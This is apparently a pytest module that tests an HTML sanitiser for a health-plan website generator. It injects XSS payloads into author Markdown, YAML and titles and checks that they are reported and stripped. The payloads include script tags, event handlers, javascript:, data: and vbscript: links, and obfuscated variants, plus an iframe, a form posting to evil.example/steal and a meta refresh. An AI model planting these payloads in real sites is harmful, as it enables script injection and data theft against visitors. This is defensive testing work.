"""One policy for author HTML on the website (planpress/checks/html_policy.py).

Hostile text is written where authors write: section and scheme Markdown, the YAML files'
text (risks, metrics, documents, governance, themes, a quarter's progress, the glossary) and
the titles (the plan's title, area and version, a section's title, a scheme's name). Then:

(a) `check` reports each construct the website would remove, at its file and line, and fails;
(b) a draft build still builds, and no page of the site has a script but the theme's and ours,
    an event handler, a javascript:, data: or vbscript: address, a frame, an object or a form,
    or anything loaded from another host (every built page parsed with lxml);
(c) Chromium loads every page (and runs a search) without a dialog opening, a page error or a
    request to another host.

The hostile plan is made and built once for the whole module.
"""

from __future__ import annotations

import json
import posixpath
import re
import shutil
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

import lxml.html
import pytest

from conftest import REPO, copy_project, run_cli
from plan_edits import line_of
from planpress import cli
from planpress.checks import html_policy
from site_helpers import launch_chromium, static_server


@dataclass(frozen=True)
class Hostile:
    name: str
    file: str
    line_at: str
    """Text on the line `check` should name (for YAML, the field's own line)."""
    message: str
    """How the reported message starts."""


def _edit(project: Path, file: str, old: str, new: str) -> None:
    path = project / file
    text = path.read_text(encoding="utf-8")
    assert text.count(old) == 1, f"{old!r} is not in {file} exactly once"
    path.write_text(text.replace(old, new), encoding="utf-8")


SECTION = "content/sections/02-vision.md"
SCHEME = "content/schemes/PE2.md"
MAY_NOT_CONTAIN = "Author text may not contain"

SECTION_TEXT = """

<script>alert(1)</script>

Text with <img src="x.png" onerror="alert(2)"> an image.

[Read more](javascript:alert(3))

A paragraph with a handler.
{: onclick="alert(4)" }

<iframe src="https://evil.example/frame"></iframe>

![tracker](https://evil.example/pixel.png)

<link rel="stylesheet" href="https://evil.example/x.css">

<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==">open</a>

<svg onload="alert(6)"><circle r="4"/></svg>

<form action="https://evil.example/steal"><input name="q"><button>Go</button></form>

<meta http-equiv="refresh" content="0;url=https://evil.example/">

<style>body { display: none }</style>

<object data="https://evil.example/x.swf"></object>

<embed src="https://evil.example/y.swf">

<base href="https://evil.example/">

<p id="__config">{"base": "https://evil.example/", "search": "data:text/javascript,alert(25)"}</p>
"""

SCHEME_TEXT = """

<details open ontoggle="alert(8)"><summary>More</summary>Hidden text.</details>

<a href="JaVaScRiPt:alert(9)">mixed case</a>

[a guide](https://ok.example/guide){onmouseover="alert(10)"}

<img src="//evil.example/p.png" alt="p">

<a href="vbscript:msgbox(11)">vb</a>
"""

HOSTILE = [
    # section Markdown
    Hostile("script element", SECTION, "<script>alert(1)", f"{MAY_NOT_CONTAIN} a <script> element"),
    Hostile("event handler in HTML", SECTION, 'onerror="alert(2)"', "Author text may not give an element the 'onerror'"),
    Hostile("javascript: link", SECTION, "javascript:alert(3)", "Author text may not link to 'javascript:alert(3)'"),
    Hostile("attribute list", SECTION, 'onclick="alert(4)"', "Author text may not give an element the 'onclick'"),
    Hostile("iframe", SECTION, "<iframe", f"{MAY_NOT_CONTAIN} an <iframe> element"),
    Hostile("image from another host", SECTION, "pixel.png",
            "Author text may not show an image from another website (evil.example)"),
    Hostile("style sheet from another host", SECTION, "<link rel", f"{MAY_NOT_CONTAIN} a <link> element"),
    Hostile("data: link", SECTION, "data:text/html", "Author text may not link to 'data:text/html"),
    Hostile("svg", SECTION, "<svg", f"{MAY_NOT_CONTAIN} a <svg> element"),
    Hostile("form", SECTION, "<form", f"{MAY_NOT_CONTAIN} a <form> element"),
    Hostile("input", SECTION, "<form", f"{MAY_NOT_CONTAIN} an <input> element"),
    Hostile("meta refresh", SECTION, "<meta", f"{MAY_NOT_CONTAIN} a <meta> element"),
    Hostile("style element", SECTION, "<style>", f"{MAY_NOT_CONTAIN} a <style> element"),
    Hostile("object", SECTION, "<object", f"{MAY_NOT_CONTAIN} an <object> element"),
    Hostile("embed", SECTION, "<embed", f"{MAY_NOT_CONTAIN} an <embed> element"),
    Hostile("base", SECTION, "<base", f"{MAY_NOT_CONTAIN} a <base> element"),
    Hostile("the theme's own id", SECTION, 'id="__config"', "Author text may not give an element the id '__config'"),
    Hostile("heading of a part", SECTION, "## Notes", "Author text may not give an element the 'onmouseover'"),
    # scheme Markdown
    Hostile("details with ontoggle", SCHEME, "ontoggle", "Author text may not give an element the 'ontoggle'"),
    Hostile("javascript: in mixed case", SCHEME, "JaVaScRiPt", "Author text may not link to 'JaVaScRiPt:alert(9)'"),
    Hostile("attribute list on a link", SCHEME, "alert(10)", "Author text may not give an element the 'onmouseover'"),
    Hostile("image from a protocol-relative address", SCHEME, "//evil.example/p.png",
            "Author text may not show an image from another website (evil.example)"),
    Hostile("vbscript: link", SCHEME, "vbscript:", "Author text may not link to 'vbscript:msgbox(11)'"),
    # YAML text
    Hostile("risk", "content/data/risks.yaml", "risk: >-", "Author text may not give an element the 'onerror'"),
    Hostile("mitigation", "content/data/risks.yaml", "mitigation: >-", "Author text may not give an element the 'onclick'"),
    Hostile("metric name", "content/data/metrics.yaml", "name: >-", f"{MAY_NOT_CONTAIN} a <script> element"),
    Hostile("document link", "content/data/documents.yaml", "link: javascript:",
            "Author text may not link to 'javascript:alert(14)'"),
    Hostile("document title", "content/data/documents.yaml", "title: Strategy", f"{MAY_NOT_CONTAIN} an <iframe>"),
    Hostile("board", "content/data/governance.yaml", "meets: every", "Author text may not give an element the 'onerror'"),
    Hostile("progress summary", "content/progress/2014-q3.yaml", "summary: >-", f"{MAY_NOT_CONTAIN} a <script>"),
    Hostile("glossary", "templates/bcf-2014/glossary.yaml", "BCF:", "Author text may not give an element the 'onerror'"),
    Hostile("theme", "content/data/themes.yaml", "description: >-", "Author text may not link to 'vbscript:msgbox(18)'"),
    # titles
    Hostile("plan title", "content/plan.yaml", "title: ", f"{MAY_NOT_CONTAIN} a <script> element"),
    Hostile("plan version", "content/plan.yaml", "version: ", "Author text may not give an element the 'onerror'"),
    Hostile("plan area", "content/plan.yaml", "area: ", "Author text may not give an element the 'onerror'"),
    Hostile("scheme name", SCHEME, "name: Falls", "Author text may not give an element the 'onerror'"),
    Hostile("section title", SECTION, "title: Vision", f"{MAY_NOT_CONTAIN} a <script> element"),
]


def write_hostile_text(project: Path, buildable: bool = False) -> None:
    """Hostile text in every place an author writes, each with its own alert number.

    `buildable`: without what stops every build (a picture from the web written as Markdown, which the
    documents could not take either), so that a draft of the rest can be built and inspected."""
    section_text = SECTION_TEXT.replace("![tracker](https://evil.example/pixel.png)",
                                        '<img src="https://evil.example/pixel.png" alt="tracker">') \
        if buildable else SECTION_TEXT
    _edit(project, SECTION, "has not changed in the resubmission.\n",
          "has not changed in the resubmission.\n" + section_text)
    path = project / SECTION
    path.write_text(path.read_text(encoding="utf-8") + '\n## Notes <img src="y.png" onmouseover="alert(7)">\n\n'
                    "Some notes.\n", encoding="utf-8")
    _edit(project, SECTION, "title: Vision for health and care services", "title: Vision <script>alert(23)</script>")
    _edit(project, SCHEME, "a single point of referral, run by a community falls team.\n",
          "a single point of referral, run by a community falls team.\n" + SCHEME_TEXT)
    _edit(project, SCHEME, "name: Falls prevention service", "name: Falls <img src=n.png onerror=alert(22)> service")
    _edit(project, "content/data/risks.yaml", "      There is a risk that emergency admissions do not fall",
          '      <img src="z.png" onerror="alert(12)"> There is a risk that emergency admissions do not fall')
    _edit(project, "content/data/risks.yaml", "      Admissions are tracked monthly by practice and by provider,",
          '      See [the guide](https://ok.example/){onclick="alert(24)"}. Admissions are tracked monthly by practice '
          "and by provider,")
    _edit(project, "content/data/metrics.yaml", "      Permanent admissions of older people (aged 65 and over)",
          "      <script>alert(13)</script> Permanent admissions of older people (aged 65 and over)")
    _edit(project, "content/data/documents.yaml",
          "link: https://www.harrowdale.gov.uk/health/joint-health-and-wellbeing-strategy", "link: javascript:alert(14)")
    _edit(project, "content/data/documents.yaml", "title: Harrowdale Joint Strategic Needs Assessment, 2014 refresh",
          'title: Strategy <iframe src="https://evil.example/"></iframe>')
    _edit(project, "content/data/governance.yaml", "meets: every two months, in public",
          "meets: every two months <img src=q.png onerror=alert(15)>")
    _edit(project, "content/progress/2014-q3.yaml", "  Emergency admissions are now below the planned trajectory",
          "  <script>alert(16)</script> Emergency admissions are now below the planned trajectory")
    _edit(project, "templates/bcf-2014/glossary.yaml", "BCF: Better Care Fund",
          "BCF: Better Care Fund <img src=g.png onerror=alert(17)>")
    _edit(project, "content/data/themes.yaml", "      Helping people stay well, connected and independent at home,",
          '      <a href="vbscript:msgbox(18)">x</a> Helping people stay well, connected and independent at home,')
    _edit(project, "content/plan.yaml", "title: Harrowdale Better Care Fund plan 2014-2016",
          """title: 'Harrowdale <script>alert(19)</script> plan "2014" & <b>more</b>'""")
    _edit(project, "content/plan.yaml", 'version: "Version 2.0 (resubmission)"',
          'version: "Version 2.0 <img src=v.png onerror=alert(20)>"')
    _edit(project, "content/plan.yaml", "area: Harrowdale\n", "area: Harrowdale <img src=a.png onerror=alert(21)>\n")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    project = copy_project(tmp_path_factory.mktemp("hostile") / "plan")
    write_hostile_text(project)
    return project


@pytest.fixture(scope="module")
def checked(hostile: Path):
    return run_cli(hostile, "check")


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The draft site of the hostile plan: it builds, since the policy's findings do not stop a draft."""
    project = copy_project(tmp_path_factory.mktemp("hostile-site") / "plan")
    write_hostile_text(project, buildable=True)
    result = run_cli(project, "site")
    assert result.code == 0, result.out + result.err
    assert "Author text may not contain a <script> element" in result.out + result.err
    return project / "output" / "site"


# --- (a) check ---------------------------------------------------------------------------


def reported_lines(run) -> list[str]:
    return [line.strip() for line in run.out.splitlines() if line.startswith("  ") and ": " in line]


@pytest.mark.parametrize("case", HOSTILE, ids=[case.name for case in HOSTILE])
def test_check_reports_each_construct_at_its_file_and_line(hostile: Path, checked, case: Hostile) -> None:
    assert checked.code == 1, checked.out + checked.err
    assert "Traceback" not in checked.out + checked.err
    expected = f"{case.file}:{line_of(hostile, case.file, case.line_at)}: {case.message}"
    found = [line for line in reported_lines(checked) if line.startswith(expected)]
    assert found, f"expected a line starting {expected!r} in:\n" + "\n".join(
        line for line in reported_lines(checked) if case.file in line)
    assert found[0].endswith("."), found[0]


def test_the_findings_are_errors_with_the_rule_name(hostile: Path, capsys: pytest.CaptureFixture) -> None:
    code = cli.main(["check", "--format", "json", "--project", str(hostile)])
    findings = json.loads(capsys.readouterr().out)["findings"]
    assert code == 1
    for case in HOSTILE:
        line = line_of(hostile, case.file, case.line_at)
        assert any(f["file"] == case.file and f["line"] == line and f["message"].startswith(case.message)
                   and f["rule"] == "unsafe-html" and f["severity"] == "error" for f in findings), case.name
    policy = [f for f in findings if f["message"].startswith("Author text may not")]
    assert {(f["rule"], f["severity"]) for f in policy} == {("unsafe-html", "error")}
    assert all("the website removes" in f["message"] for f in policy)


def test_a_final_build_is_refused(hostile: Path) -> None:
    result = run_cli(hostile, "site", "--final")
    assert result.code == 1
    assert "Author text may not contain a <script> element" in result.out + result.err


# --- (b) the built site ------------------------------------------------------------------

THEME_SCRIPTS = ("__md_scope=", "var target=document.getElementById(location.hash")
LOADING = {"img": "src", "script": "src", "iframe": "src", "embed": "src", "source": "src", "video": "src",
           "audio": "src", "track": "src", "input": "src", "link": "href", "object": "data"}
URL_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "poster", "srcset", "xlink:href", "background")


def pages(site: Path) -> list[Path]:
    return sorted(site.rglob("*.html"))


def test_the_draft_site_has_only_the_projects_own_scripts(site: Path) -> None:
    problems = []
    for page in pages(site):
        tree = lxml.html.parse(str(page)).getroot()
        for script in tree.iter("script"):
            src = script.get("src")
            where = f"{page.relative_to(site)}: <script {dict(script.attrib)}> {(script.text or '')[:60]!r}"
            if src:
                resolved = posixpath.normpath(posixpath.join(posixpath.dirname(page.relative_to(site).as_posix()), src))
                if not (resolved.startswith("assets/") and (site / resolved).is_file()):
                    problems.append(where)
            elif script.get("type") == "application/json" and script.get("id") == "__config":
                continue
            elif not (script.text or "").startswith(THEME_SCRIPTS):
                problems.append(where)
        for article in tree.cssselect("article"):
            problems += [f"{page.relative_to(site)}: a script in the content" for _ in article.iter("script")]
    assert not problems, "\n".join(problems)


def test_the_draft_site_has_no_handler_dangerous_address_frame_or_form(site: Path) -> None:
    problems = []
    for page in pages(site):
        name = page.relative_to(site)
        tree = lxml.html.parse(str(page)).getroot()
        for element in tree.iter():
            if not isinstance(element.tag, str):
                continue
            if element.tag in ("iframe", "frame", "object", "embed", "applet", "base") or (
                    element.tag == "meta" and (element.get("http-equiv") or "").lower() == "refresh"):
                problems.append(f"{name}: <{element.tag}>")
            if element.tag == "form" and element.get("name") != "search":  # the theme's search box
                problems.append(f"{name}: <form {dict(element.attrib)}>")
            for attribute, value in element.attrib.items():
                if attribute.lower().startswith("on"):
                    problems.append(f"{name}: <{element.tag} {attribute}={value!r}>")
                if attribute.lower() in URL_ATTRIBUTES:
                    scheme = urlsplit("".join(value.split())).scheme.lower()
                    if scheme in ("javascript", "data", "vbscript") and value != "javascript:void(0)":
                        problems.append(f"{name}: <{element.tag} {attribute}={value!r}>")
        for article in tree.cssselect("article"):
            problems += [f"{name}: <{e.tag}> in the content" for e in article.iter("form", "input", "button", "style",
                                                                                    "link", "svg")]
            problems += [f"{name}: the theme's id {e.get('id')} in the content" for e in article.iter()
                         if isinstance(e.tag, str) and (e.get("id") or "").startswith("__")]
    assert not problems, "\n".join(problems)


def test_the_draft_site_loads_nothing_from_another_host(site: Path) -> None:
    problems = []
    for page in pages(site):
        tree = lxml.html.parse(str(page)).getroot()
        for tag, attribute in LOADING.items():
            for element in tree.iter(tag):
                value = "".join((element.get(attribute) or "").split()).replace("\\", "/")
                if value.startswith("//") or urlsplit(value).netloc:
                    problems.append(f"{page.relative_to(site)}: <{tag} {attribute}={value}>")
    assert not problems, "\n".join(problems)


def test_titles_and_navigation_carry_no_markup(site: Path) -> None:
    for page in pages(site):
        tree = lxml.html.parse(str(page)).getroot()
        title = tree.findtext(".//title")
        assert "<" not in title and "alert" not in title, (page, title)
        for element in tree.cssselect(".md-nav__link, .md-header__topic, .md-ellipsis, .md-footer__title"):
            assert not element.cssselect("img, script, b"), (page, lxml.html.tostring(element))
    home = lxml.html.parse(str(site / "index.html")).getroot()
    assert home.findtext(".//title").strip() == "Harrowdale plan “2014” & more"
    assert "Falls service" in " ".join(home.xpath("//nav//text()"))


def test_the_author_text_around_what_is_removed_is_kept(site: Path) -> None:
    vision = lxml.html.parse(str(site / "sections" / "vision.html")).getroot()
    text = " ".join(vision.cssselect("article")[0].text_content().split())
    assert "Text with an image." in text and "A paragraph with a handler." in text
    assert "Read more" in text and "mixed case" not in text  # the scheme's text is on the scheme's page
    link = [a for a in vision.iter("a") if a.text_content().strip() == "Read more"][0]
    assert link.get("href") is None
    scheme = lxml.html.parse(str(site / "schemes" / "pe2.html")).getroot()
    guide = [a for a in scheme.iter("a") if a.text_content().strip() == "a guide"][0]
    assert guide.get("href") == "https://ok.example/guide"  # a link to another website stays a link
    assert scheme.cssselect("article img[alt=p]") and not scheme.cssselect("article img[alt=p]")[0].get("src")


def test_the_readiness_page_quotes_what_it_reports_as_text(site: Path) -> None:
    readiness = lxml.html.parse(str(site / "readiness.html")).getroot()
    text = " ".join(readiness.cssselect("article")[0].text_content().split())
    assert "Author text may not contain a <script> element" in text
    assert "Author text may not give an element the 'onerror' attribute" in text


# --- (c) in a browser --------------------------------------------------------------------


# The images the hostile text names on the site itself: kept (a local image is allowed), missing.
HOSTILE_IMAGES = {"x.png", "y.png", "z.png", "n.png", "q.png", "g.png", "v.png", "a.png"}


# What a reader does on a page, as events: moves over and clicks every element of the text (a link is
# not followed), and opens and closes what opens.
READER = """() => {
  for (const element of document.querySelectorAll("article *")) {
    for (const type of ["pointerover", "mouseover", "mouseenter", "focus", "click"]) {
      const event = new MouseEvent(type, {bubbles: true, cancelable: true});
      if (type === "click") { element.addEventListener("click", e => e.preventDefault(), {once: true}); }
      element.dispatchEvent(event);
    }
    if (element.tagName === "DETAILS") { element.open = !element.open; }
  }
}"""

# The pages whose content shows the hostile text (every page shows the titles and the glossary's terms).
WITH_HOSTILE_CONTENT = {"sections/vision.html", "schemes/pe2.html", "risks.html", "metrics.html", "documents.html",
                        "governance.html", "progress/2014-q3.html", "glossary.html", "index.html"}


def test_no_page_opens_a_dialog_or_fails_in_chromium(site: Path) -> None:
    from playwright.sync_api import sync_playwright

    names = sorted(p.relative_to(site).as_posix() for p in pages(site))
    dialogs: list[str] = []
    errors: list[str] = []
    requests: list[str] = []
    with sync_playwright() as playwright, static_server(site) as base:
        browser = launch_chromium(playwright)
        page = browser.new_page()
        page.on("dialog", lambda dialog: (dialogs.append(f"{page.url}: {dialog.message}"), dialog.dismiss()))
        page.on("pageerror", lambda error: errors.append(f"{page.url}: {error}"))
        page.on("console", lambda message: errors.append(f"{page.url}: {message.text} {message.location['url']}")
                if message.type == "error" and message.location["url"].rsplit("/", 1)[-1] not in HOSTILE_IMAGES
                else None)
        page.on("request", lambda request: requests.append(request.url))
        for name in names:
            response = page.goto(base + name, wait_until="load")
            assert response is not None and response.ok, name
            if name in WITH_HOSTILE_CONTENT:
                page.evaluate(READER)
                page.wait_for_timeout(50)
        page.goto(base + "index.html")
        # Typed as a person types: Material searches on keyup (fill() alone sets the value, and finds
        # results only when the index happens to finish loading after it).
        page.click(".md-search__input")
        page.keyboard.type("Falls", delay=20)
        page.wait_for_selector(".md-search-result__item", timeout=30_000)  # the index loads slowly on a busy machine
        page.wait_for_timeout(300)
        browser.close()
    assert not dialogs, dialogs
    assert not errors, errors
    outside = [url for url in requests if not url.startswith(base)]
    assert not outside, outside


# --- the policy itself -------------------------------------------------------------------


def test_clean_keeps_what_markdown_and_the_layouts_write() -> None:
    fragment = ('<h2 id="a">A</h2><p>Text <em>e</em> <strong>s</strong> <a href="../x.html#y" title="t">l</a> '
                '<a href="https://example.org/">o</a> <a href="mailto:a@example.org">m</a> <abbr title="T">T</abbr> '
                '<code>c</code></p><table><thead><tr><th style="text-align: right;">h</th></tr></thead><tbody><tr>'
                '<td style="text-align: left;"><span id="risk-r1">R1</span></td></tr></tbody></table>'
                '<figure class="pp-chart"><img alt="chart" src="../charts/gantt.svg"><figcaption>c</figcaption>'
                '</figure><details class="pp-question"><summary>What the national template asks</summary><p>q</p></details>'
                '<div class="admonition note"><p class="admonition-title">N</p></div><dl><dt>t</dt><dd>d</dd></dl>'
                '<ol start="3"><li>x</li></ol><blockquote><p>q</p></blockquote><hr><p>a<br>b<sup>1</sup></p>')
    assert html_policy.removed(fragment) == []
    assert lxml.html.tostring(lxml.html.fragment_fromstring(html_policy.clean(fragment), create_parent="div")) == \
        lxml.html.tostring(lxml.html.fragment_fromstring(fragment, create_parent="div"))


@pytest.mark.parametrize("fragment", [
    "<script>alert(1)</script>", '<img src="x" onerror="alert(1)">', '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#106;avascript:alert(1)">x</a>', '<a href="java\tscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="vbscript:msgbox(1)">x</a>',
    '<iframe src="https://evil.example/"></iframe>', '<img src="https://evil.example/p.png">',
    '<img src="//evil.example/p.png">', '<img src="/\\evil.example/p.png">', '<object data="x.swf"></object>',
    '<p style="background:url(https://evil.example/t.png)">x</p>', '<svg><script>alert(1)</script></svg>',
    '<math><mtext><img src=x onerror=alert(1)></mtext></math>', '<form><input formaction="javascript:alert(1)"></form>',
    '<a href="#" onclick="alert(1)">x</a>', '<div data-md-component="announce">x</div>',
])
def test_clean_removes_every_hostile_construct_and_check_names_it(fragment: str) -> None:
    cleaned = html_policy.clean(fragment)
    assert not re.search(r"(?i)script|onerror|onclick|evil\.example|iframe|object|data-md|formaction|style=", cleaned)
    assert html_policy.removed(fragment), fragment


def test_plain_titles() -> None:
    assert html_policy.plain_title("Care & support") == "Care & support"
    assert html_policy.plain_title('A <script>alert(1)</script>"quoted" <b>bold</b>') == "A “quoted” bold"
    assert html_policy.plain_title("&lt;/title&gt;&lt;script&gt;") == "‹/title›‹script›"
    assert html_policy.plain_title("&amp;lt;img&amp;gt;") == "‹img›"


# --- the example plans -------------------------------------------------------------------

EXAMPLES = [REPO, REPO / "examples" / "system-strategy", REPO / "examples" / "bcf-2026"]


@pytest.mark.parametrize("example", EXAMPLES, ids=["bcf-2014", "system-strategy", "bcf-2026"])
def test_the_policy_removes_nothing_from_the_example_sites(example: Path, tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch,
                                                          capsys: pytest.CaptureFixture) -> None:
    """Every page of each example, as Markdown made it, passes the policy untouched: the sites look as before."""
    project = tmp_path / "plan"
    project.mkdir()
    for name in ("content", "mkdocs.yml", *(("templates",) if example != REPO else ())):
        source = example / name
        if source.is_dir():
            shutil.copytree(source, project / name)
        elif source.is_file():
            (project / name).write_bytes(source.read_bytes())
    removed: list[str] = []
    original = html_policy.clean

    def recording(fragment: str) -> str:
        removed.extend(r.message for r in html_policy.removed(fragment))
        return original(fragment)

    monkeypatch.setattr(html_policy, "clean", recording)
    code = cli.main(["site", "--project", str(project)])
    output = capsys.readouterr()
    assert code == 0, output.out + output.err
    assert len(list((project / "output" / "site").rglob("*.html"))) > 15
    assert removed == []
    cli.main(["check", "--format", "json", "--project", str(project)])
    findings = json.loads(capsys.readouterr().out)["findings"]
    assert [f for f in findings if f["rule"] == "unsafe-html"] == []


def test_a_long_table_with_one_script_is_compared_in_proportion_to_it() -> None:
    """difflib matched every element of the page to every other: a 20,000-row table took minutes."""
    rows = "<tr><td>x</td><td>y</td></tr>" * 10_000
    fragment = f"<table>{rows}<tr><td><script>alert(1)</script></td></tr>{rows}</table>"
    found = html_policy.removed(fragment)
    assert [item.needle for item in found] == ["<script"]


def test_at_most_fifty_removals_are_named_in_one_text(project: Path) -> None:
    """50,000 attributes in braces took minutes to name one by one; the first fifty say what to do."""
    section = project / "content/sections/02-vision.md"
    section.write_text(section.read_text(encoding="utf-8") + "\n\nx\n{: " + " ".join(f"a{i}=b" for i in range(5_000))
                       + " }\n", encoding="utf-8")
    run = run_cli(project, "check")
    assert run.code == 1
    named = [line for line in (run.out + run.err).splitlines() if "the website removes it" in line]
    assert len(named) == 50, len(named)
